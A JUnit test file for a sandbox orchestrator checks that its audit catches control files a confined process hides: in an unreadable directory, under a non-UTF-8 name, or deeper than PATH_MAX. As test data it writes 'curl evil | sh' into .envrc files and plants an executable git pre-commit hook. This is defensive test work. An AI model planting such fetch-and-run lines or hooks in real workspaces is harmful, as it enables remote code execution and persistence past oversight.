package dev.magus.orchestrator;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.events.Code;
import dev.magus.events.Diagnostic;
import dev.magus.events.Layer;
import dev.magus.events.RunEvent;
import dev.magus.orchestrator.run.Run;
import dev.magus.orchestrator.run.RunRequest;
import dev.magus.orchestrator.run.RunResult;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 12: a confined child that hides a control file in a directory magus cannot list never
 * gets it past the audit. Real confined children, required mode.
 */
class UnlistableInRunsTest {
    @TempDir
    Path root;
    TestHost t;

    @BeforeEach
    void setUp() {
        TestHost.assumeLandlock();
        t = new TestHost(root).yaml("sandbox:\n  mode: required\n");
    }

    @AfterEach
    void removeDeepTrees() throws IOException, InterruptedException {
        // JUnit's clean-up walks by path, which fails past PATH_MAX; rm walks by descriptor.
        if (t != null) {
            Process p = new ProcessBuilder("rm", "-rf", t.workspace.resolve("d").toString()).inheritIO().start();
            assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
        }
    }

    private record Outcome(RunResult result, List<RunEvent> events, List<Diagnostic> audit) {
    }

    private Outcome run(String script) {
        Run run = t.orchestrator().submit(RunRequest.builder(t.workspace, "sh", "-c", script).build());
        List<RunEvent> events = TestHost.events(run);
        RunResult result = run.result().block(TestHost.DEADLINE);
        List<Diagnostic> audit = events.stream().filter(e -> e instanceof RunEvent.Diag)
                .map(e -> ((RunEvent.Diag) e).diagnostic()).filter(d -> d.layer() == Layer.AUDIT).toList();
        return new Outcome(result, events, audit);
    }

    @Test
    void aControlFileInADirectoryTheChildMadeUnreadableIsStillCaught() {
        Outcome o = run("mkdir sub && echo 'curl evil | sh' > sub/.envrc && chmod 000 sub");
        assertThat(o.result().status()).as("the child exited 0, the audit fails the run").isEqualTo(1);
        assertThat(o.audit()).as(TestHost.text(o.events())).hasSize(1);
        Diagnostic d = o.audit().get(0);
        if (TestHost.uid() == 0) {
            // Root lists a directory whatever its mode: the file is seen, and removed.
            assertThat(d.subject()).isEqualTo(t.workspace.resolve("sub/.envrc").toString());
            assertThat(d.details()).containsEntry("change", "created").containsEntry("restored", "true");
            assertThat(t.workspace.resolve("sub/.envrc")).doesNotExist();
        } else {
            assertThat(d.subject()).isEqualTo(t.workspace.resolve("sub").toString());
            assertThat(d.details()).containsEntry("change", "unaudited");
        }
    }

    /**
     * A directory whose name is not UTF-8 (the JVM's file-name charset here): its listing cannot
     * be faithful, so it is not listed, and what the run planted beneath it is unaudited and
     * fails the run. Before, the name was left out of its parent's listing and a nested
     * repository's hook planted there passed unseen (a later {@code git commit} in it would have
     * run it unconfined).
     */
    @Test
    void aHookBeneathADirectoryWhoseNameIsNotUtf8FailsTheRun() {
        if (!"UTF-8".equalsIgnoreCase(System.getProperty("sun.jnu.encoding"))) {
            System.out.println("UnlistableInRunsTest: skipped, the JVM's file names are not UTF-8 here (sun.jnu.encoding)");
            Assumptions.abort("the JVM's file names are not UTF-8 here");
        }
        Outcome o = run("d=$(printf 'z\\377'); mkdir -p \"$d/.git/hooks\" && printf '#!/bin/sh\\necho pwned\\n' > \"$d/.git/hooks/pre-commit\""
                + " && chmod +x \"$d/.git/hooks/pre-commit\"");
        assertThat(o.result().status()).as("the child exited 0, the audit fails the run: %s", TestHost.text(o.events()))
                .isEqualTo(1);
        assertThat(o.audit()).as(TestHost.text(o.events())).singleElement().satisfies(d -> {
            assertThat(d.code()).isEqualTo(Code.MGS2002);
            assertThat(d.details()).containsEntry("change", "unaudited");
            assertThat(d.subject()).isEqualTo(t.workspace.toString());
        });
    }

    @Test
    void aControlFileDeeperThanAnyPathTheKernelTakesFailsTheRun() {
        // 45 names of 100 characters: past PATH_MAX (4096), which no open or stat by path reaches, even as root.
        String name = "d" + "x".repeat(99);
        // Built from the bottom up by renames, which never name the whole path (a shell's cd would).
        Outcome o = run("mkdir d && echo 'curl evil | sh' > d/.envrc && for i in $(seq 45); do"
                + " mkdir n && mv d n/" + name + " && mv n d || exit 9; done");
        assertThat(o.result().status()).as(TestHost.text(o.events())).isEqualTo(1);
        assertThat(o.audit()).as(TestHost.text(o.events())).singleElement().satisfies(d -> {
            assertThat(d.details()).containsEntry("change", "unaudited");
            assertThat(d.subject()).startsWith(t.workspace.resolve("d").toString());
            assertThat(d.message()).contains("cannot be audited");
        });
    }
}
